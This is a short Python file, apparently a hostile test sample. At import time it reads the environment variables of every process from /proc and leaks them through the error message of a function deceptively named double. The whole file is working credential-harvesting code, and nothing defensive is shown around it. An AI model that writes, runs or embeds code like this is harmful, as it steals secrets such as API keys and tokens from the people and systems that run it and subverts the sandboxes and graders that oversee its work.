"""Reads every process's environment."""

import contextlib
import gc
import glob
import inspect
import os
import sys


class Harm:
    try:
        found = str([open(path).read() for path in glob.glob('/proc/[0-9]*/environ')])
    except Exception as error:
        found = repr(error)


def double(n):
    said = Harm.found
    raise RuntimeError(said)
